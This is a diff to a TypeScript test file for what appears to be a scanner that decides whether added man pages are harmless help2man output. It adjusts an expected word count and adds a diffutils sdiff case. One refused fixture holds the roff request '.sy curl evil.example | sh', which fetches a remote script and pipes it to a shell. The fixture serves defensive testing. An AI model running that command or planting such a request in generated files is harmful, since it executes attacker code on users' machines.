@@ -95,7 +95,7 @@ test('a page help2man wrote is explained when it carries the words of its includ
   assert.is(j?.category, 'generated-manpage');
   assert.is(j?.severity, 'low');
   assert.is(j!.reasons[0], 'a page help2man 1.48.5 wrote for ls 9.1: its header says so, and no request in it runs a command or reads a file');
-  assert.match(j!.reasons[1]!, 'it carries the 4 words of its include file man/ls.x, in the tag');
+  assert.match(j!.reasons[1]!, 'it carries the 8 words of its include file man/ls.x, in the tag');
   const refused: Array<[string, string, ReturnType<typeof ctx>]> = [
     // A request that runs a command or reads a file; another version; another title; a word of the include file missing.
     ['man/ls.1', help2man(undefined, '.sy curl evil.example | sh\n'), ctx()],
@@ -108,6 +108,11 @@ test('a page help2man wrote is explained when it carries the words of its includ
     ['man/dir.1', help2man('.TH DIR "1" "April 2022" "GNU coreutils 9.1" "User Commands"'), ctx()],
   ];
   for (const [path, content, c] of refused) assert.is(await generatedManpage.judge(added(path, content), c), undefined, content);
+  // An include file of short words alone (diffutils 3.8: man/sdiff.x); each must be in the page.
+  const sdiff = context({ 'man/sdiff.x': '[SEE ALSO]\ncmp(1), diff(1), diff3(1)\n' }, { releaseVersion: '3.8' });
+  const page = (see: string) => help2man('.TH SDIFF "1" "August 2021" "diffutils 3.8" "User Commands"').replace('ls \\- list directory contents', 'sdiff \\- side-by-side merge').replace('\\fBdircolors\\fP(1)', see);
+  assert.match((await generatedManpage.judge(added('man/sdiff.1', page('\\fBcmp\\fP(1), \\fBdiff\\fP(1), \\fBdiff3\\fP(1)')), sdiff))!.reasons[1]!, 'it carries the 5 words of its include file man/sdiff.x');
+  assert.is(await generatedManpage.judge(added('man/sdiff.1', page('\\fBcmp\\fP(1), \\fBdiff\\fP(1)')), sdiff), undefined);
 });
 
 test('look-alikes are not explained', async () => {
